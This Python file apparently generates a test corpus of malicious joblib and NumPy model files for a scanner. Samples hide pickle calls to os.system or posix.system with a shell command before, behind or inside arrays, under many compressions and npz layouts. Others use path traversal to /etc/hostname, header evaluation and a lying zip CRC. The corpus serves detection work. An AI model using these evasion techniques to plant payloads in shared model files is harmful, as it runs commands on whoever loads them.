"""joblib and NumPy files: payloads before, in and behind arrays, in every compression that joblib writes."""

from __future__ import annotations

import bz2
import gzip
import lzma
import struct
import zlib
from typing import TYPE_CHECKING

from corpus.assemble import Build, Call, Name, New, Seq, code, dump
from corpus.malicious.containers import EVIL, GOOD, PAYLOADS, QUIET
from corpus.packing import Member, lz4_frame, npy, plain_zip, zipped, zstd_frame
from corpus.sample import EXPRESSION, SHELL, Sample, file

if TYPE_CHECKING:
    from collections.abc import Iterator

RUN = Call("posix", "system", (SHELL,))


def kind(code_: str, order: str = "<", flags: int = 0) -> Build:
    return Build(Call("numpy", "dtype", (code_, False, True)), (3, order, None, None, None, -1, -1, flags))


def wrapper(length: int, dtype: Build) -> Build:
    state = {
        "subclass": Name("numpy", "ndarray"),
        "shape": (length,),
        "order": "C",
        "dtype": dtype,
        "allow_mmap": False,
    }
    return Build(New(Name("joblib.numpy_pickle", "NumpyArrayWrapper")), state)


def array(values: bytes) -> bytes:
    """Return the instructions of a wrapper, with the raw bytes that joblib writes behind them."""
    return code(wrapper(len(values), kind("u1", "|"))) + values


def packs() -> dict[str, object]:
    return {
        "zlib": zlib.compress, "gzip": lambda data: gzip.compress(data, mtime=0), "bz2": bz2.compress, "xz": lzma.compress,
        "lzma": lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE), "lz4": lz4_frame,
        "zlib-0": lambda data: zlib.compress(data, 0), "zlib-9": lambda data: zlib.compress(data, 9),
        "zfile": lambda data: b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data),
    }  # fmt: skip


def samples() -> Iterator[Sample]:
    """Yield joblib's files, then NumPy's."""
    plain = {
        "plain": EVIL,
        "before-an-array": b"\x80\x04](" + code(RUN) + array(b"\1\2\3\4") + b"e.",
        "behind-an-array": b"\x80\x04](" + array(b"\1\2\3\4") + code(RUN) + b"e.",
        "behind-an-array-that-ends-like-a-pickle": b"\x80\x04](" + array(b"N.N.") + code(RUN) + b"e.",
        "between-arrays": b"\x80\x04](" + array(bytes(64)) + code(RUN) + array(bytes(64)) + b"e.",
        "in-an-array-of-objects": b"\x80\x04" + code(wrapper(1, kind("O8", "|", 63))) + dump([RUN]) + b".",
        "behind-a-big-array": b"\x80\x04](" + array(bytes(2 << 20)) + code(RUN) + b"e.",
        "behind-an-array-by-name": b"\x80\x04]("
        + array(b"\1\2")
        + code(Call("_osx_support", "_read_output", (SHELL,)))
        + b"e.",
    }
    for name, stream in plain.items():
        yield file("joblib", name, "model.joblib", stream, loader="joblib")
        for codec, pack in packs().items():
            packed = pack(stream)  # type: ignore[operator]
            how = {"loader": "joblib"} if codec != "zfile" else {"static": "joblib reads it as its old format"}
            yield file("joblib-compressed", f"{name}-{codec}", "model.joblib", packed, **how)
    yield file("joblib-compressed", "zstd", "model.joblib", zstd_frame(EVIL), static="newer joblib")
    old = Build(
        New(Name("joblib.numpy_pickle_compat", "NDArrayWrapper")),
        {"filename": "../../etc/hostname", "subclass": None, "allow_mmap": False},
    )
    yield file("joblib", "file-beside-the-pickle", "model.joblib", dump(old), "path", loader="joblib")
    z = Build(
        New(Name("joblib.numpy_pickle_compat", "ZNDArrayWrapper")),
        {"filename": "/etc/hostname", "init_args": (Name("os", "system"), (SHELL,), b"b"), "state": ()},
    )
    yield file("joblib", "old-wrapper-calls", "model.joblib", dump(z), loader="joblib")
    yield from _numpy()


def _numpy() -> Iterator[Sample]:
    for name, evil in PAYLOADS.items():
        yield file("npy", f"object-array-{name}", "x.npy", npy(evil), loader="numpy")
        yield file("npy", f"object-array-2-{name}", "x.npy", npy(evil, version=2), loader="numpy")
        yield file("npy", f"npz-{name}", "x.npz", plain_zip({"arr_0.npy": npy(evil)}), loader="numpy")
        yield file("npy", f"npz-deflated-{name}", "x.npz", plain_zip({"arr_0.npy": npy(evil)}, 8), loader="numpy")
        yield file("npy", f"pickle-named-npy-{name}", "x.npy", evil, loader="numpy")
        yield file(
            "npy",
            f"npz-second-{name}",
            "x.npz",
            plain_zip({"a.npy": npy(bytes(8), "'<f8'"), "b.npy": npy(evil)}),
            loader="numpy",
        )
        yield file(
            "npy", f"npz-member-is-a-pickle-{name}", "x.npz", plain_zip({"arr_0.npy": evil}), loader="zip:arr_0.npy"
        )
        yield file("npy", f"structured-{name}", "x.npy", npy(evil, "[('a', '|O')]"), loader="numpy")
        yield file(
            "npy", f"trailing-pickle-{name}", "x.npy", npy(bytes(8), "'<f8'") + evil, static="read by whoever reads on"
        )
    yield file("npy", "object-of-kind-named-otherwise", "weights.bin", npy(EVIL, "'O'"), loader="numpy")
    yield file("npy", "nested-structure", "x.npy", npy(EVIL, "[('a', [('b', '|O', (1,))])]"), loader="numpy")
    yield file("npy", "header-evaluates", "x.npy", npy(b"", f"{EXPRESSION}"), static="old NumPy evaluated headers")
    yield file("npy", "header-in-version-3", "x.npy", npy(EVIL, version=3), loader="numpy")
    yield file("npy", "shape-negative", "x.npy", npy(bytes(8), "'<f8'", "(-1,)"), static="wrong size")
    yield file("npy", "shape-of-exabytes", "x.npy", npy(bytes(8), "'<f8'", f"({1 << 60},)"), static="wrong size")
    yield file(
        "npy",
        "npz-lying-crc",
        "x.npz",
        zipped(Member("arr_0.npy", npy(EVIL), crc=1)),
        "CVE-2025-10156",
        static="reader dependent",
    )
    yield file("npy", "good-then-evil-stream", "x.npy", npy(dump([1]) + EVIL), static="read by whoever reads on")
    yield file("npy", "dump-of-an-array", "x.dmp", dump(Seq((GOOD and RUN, [1]))), loader="numpy")
    yield file("npy", "quiet-in-an-array-method", "x.pkl", dump(_array_state()), loader="pickle")


def _array_state() -> Build:
    made = Call("numpy._core.multiarray", "_reconstruct", (Name("numpy", "ndarray"), (0,), b"b"))
    return Build(made, (1, (1,), kind("O8", "|", 63), False, [Call("_osx_support", "_read_output", (SHELL,))]))


_ = (QUIET, struct)
